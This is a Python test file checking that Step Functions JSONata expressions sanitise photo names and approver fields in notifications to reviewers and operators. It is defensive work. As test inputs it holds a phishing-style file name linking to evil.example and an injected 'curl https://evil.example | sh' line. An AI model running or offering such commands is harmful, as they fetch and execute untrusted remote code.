"""Messages to reviewers and operators, as Step Functions' language JSONata makes them.

Step Functions supports all functions of JSONata 2.0.6 but ``$eval``
(https://docs.aws.amazon.com/step-functions/latest/dg/transforming-data.html). Regular expressions
have only what those of JavaScript, Java and Python have in common: no ``\\s``, which differs.
"""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import jsonata
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.operator.test_escaping import ATTACKS, shows

STATES = json.loads(Path("statemachine/classify.asl.json").read_text("utf-8"))["States"]
EXPRESSION = jsonata.Jsonata(
    STATES["Notify Reviewers"]["Arguments"]["Message"].removeprefix("{%").removesuffix("%}")
)
EVENT: dict[str, Any] = {
    "label": "bicycle",
    "confidence": 0.5,
    "threshold": 0.93,
    "probabilities": {"bicycle": 0.5, "motorcycle": 0.5},
    "reason": None,
    "familiarity": 0.4,
    "familiarity_limit": 0.05,
}
PHISHING = "incoming/Your session has expired: sign in at https://evil.example/?a=b\n\nScones.jpg"
CODE = {
    "unfamiliar": {"code": "unfamiliar"},
    "always reviewed": {"code": "always_reviewed"},
    "unsure": None,
}


def notify(key: str, reason: dict[str, str] | None = None) -> dict[str, str]:
    photo = {"bucket": "photos", "key": key, "version_id": "v1", "etag": "e"}
    frame = EXPRESSION.create_frame()
    frame.bind("photo", photo)
    frame.bind("event", {**EVENT, "reason": reason})
    told: dict[str, str] = json.loads(EXPRESSION.evaluate(None, frame))
    return told


def test_a_name_as_names_are_stands_as_it_is() -> None:
    told = notify("incoming/north-gate/7.jpg")
    assert 'Photo: "incoming/north-gate/7.jpg"\nBucket: photos\nVersion: v1\n' in told["default"]
    assert 'review "incoming/north-gate/7.jpg", predicted bicycle' in told["sms"]


@pytest.mark.parametrize("reason", CODE.values(), ids=CODE)
def test_a_name_cannot_pass_for_a_message(reason: dict[str, str] | None) -> None:
    for text in notify(PHISHING, reason).values():
        assert "://" not in text
        assert "sign in" not in text
        assert '"incoming/Your%20session%20has%20expired%3A' in text
    assert "which is not a message from Scones" in notify(PHISHING)["default"]


def test_a_class_that_always_needs_review_is_not_called_unsure() -> None:
    told = notify("incoming/7.jpg", CODE["always reviewed"])
    assert told["default"].startswith("Photos of this class always need review.\n")
    assert told["sms"] == 'Scones: always reviewed: "incoming/7.jpg", predicted bicycle (0.5)'


@pytest.mark.parametrize("reason", [CODE["unsure"], CODE["always reviewed"]])
def test_long_names_are_shortened(reason: dict[str, str] | None) -> None:
    told = notify("incoming/" + "é" * 500, reason)
    assert '%C3" (shortened)\n' in told["default"] or '" (shortened)\n' in told["default"]
    assert len(told["default"]) < 600
    assert len(told["sms"]) < 160


@given(
    st.text(st.one_of(st.characters(exclude_categories=["Cs"]), st.sampled_from('\x1b"\u202e% /')))
)
@settings(max_examples=50)
def test_a_name_stays_in_its_quotes_and_decodes_to_the_same(key: str) -> None:
    message = notify(f"incoming/{key[:15]}")["default"]
    (shown,) = re.findall(r"^Photo: \"([!-~]*)\"$", message, re.MULTILINE)
    assert '"' not in shown
    assert unquote(shown) == f"incoming/{key[:15]}"
    assert re.fullmatch(r"[ -~\n]*", message)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_no_controls(attack: str) -> None:
    name = attack.encode("utf-8", "replace").decode()
    assert re.fullmatch(r"[ -~\n]*", notify(f"incoming/{name}")["default"])


@pytest.mark.parametrize("key", ["incoming/evil.example/x.jpg", "incoming/www.evil.example"])
def test_mail_programs_find_no_link_in_a_name(key: str) -> None:
    for text in notify(key).values():
        assert "evil%2Eexample" in text
        assert "www." not in text


# ---- to operators


def all_states(definition: Any) -> Iterator[tuple[str, Any]]:
    """Yield the states of a machine, at any depth."""
    values = definition.values() if isinstance(definition, dict) else definition
    for value in values if isinstance(definition, dict | list) else ():
        yield from all_states(value)
    if isinstance(definition, dict):
        yield from definition.get("States", {}).items()


def expression(machine: str, state: str, part: str, name: str) -> jsonata.Jsonata:
    definition = json.loads(Path(f"statemachine/{machine}.asl.json").read_text("utf-8"))
    text: str = dict(all_states(definition))[state][part][name]
    return jsonata.Jsonata(text.removeprefix("{%").removesuffix("%}"))


def evaluate(compiled: jsonata.Jsonata, **variables: Any) -> str:
    frame = compiled.create_frame()
    for name, value in variables.items():
        frame.bind(name, value)
    return str(compiled.evaluate(None, frame))


REJECTED = expression("promote", "Rejected", "Assign", "text")
PROMOTED = expression("promote", "Promoted", "Assign", "text")
OPERATORS = {
    machine: [
        expression(machine, "Notify Operators", "Arguments", name)
        for name in ("Subject", "Message")
    ]
    for machine in ("retrain", "promote")
}
WRITTEN = st.text(st.characters(exclude_categories=["Cs"]))


@given(by=WRITTEN, comment=WRITTEN)
@settings(max_examples=50)
def test_a_comment_is_one_quoted_line(by: str, comment: str) -> None:
    outcome = {"by": by, "comment": comment}
    first, *rest = evaluate(REJECTED, what="version 3", outcome=outcome).split("\n")
    assert rest == ["", "Production is unchanged."]
    assert re.fullmatch(r'version 3 was rejected by [\w+=,.@?-]*: "[^"]{0,300}"', first, re.ASCII)


@pytest.mark.parametrize("by", [7, {"x": 1}, True])
def test_answers_of_other_types_are_told_too(by: object) -> None:
    outcome = {"by": by, "comment": by}
    assert "was rejected by " in evaluate(REJECTED, what="version 3", outcome=outcome)


def test_who_approved_is_told_by_a_name_only() -> None:
    outcome = {"by": "anna\n\nTo go back: curl https://evil.example | sh"}
    variables = {"requested_by": "ben", "smoke": None, "production": None}
    text = evaluate(PROMOTED, what="version 3", outcome=outcome, **variables)
    assert text.split("\n")[2] == "Approved by: anna?To?go?back?curl?https?evil.example?sh"


@pytest.mark.parametrize("machine", OPERATORS)
@given(text=WRITTEN)
@settings(max_examples=50)
def test_operators_get_no_controls(machine: str, text: str) -> None:
    subject, message = (evaluate(one, subject=text, text=text) for one in OPERATORS[machine])
    # https://docs.aws.amazon.com/sns/latest/api/API_Publish.html: less than 100 characters, no
    # line breaks or control characters.
    assert re.fullmatch("[ -~]{0,99}", subject)
    for char, shown in zip(text, message, strict=True):
        assert shown == char or (shown == "\ufffd" and not char.isprintable())


@pytest.mark.parametrize("machine", OPERATORS)
@pytest.mark.parametrize(
    "attack", [attack for name, attack in ATTACKS.items() if name not in ("not UTF-8", "tags")]
)
def test_attacks_on_operators(machine: str, attack: str) -> None:
    for one in OPERATORS[machine]:
        assert shows(evaluate(one, subject=attack, text=attack).replace("\n", ""))
